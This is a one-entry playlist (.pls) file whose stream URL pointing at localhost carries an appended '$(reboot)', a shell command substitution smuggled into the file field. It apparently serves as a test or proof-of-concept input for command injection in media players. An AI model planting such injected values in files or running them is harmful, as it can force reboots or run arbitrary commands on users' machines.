[playlist]
File1=icy://127.0.0.1:8150/stream/1;$(reboot)	end
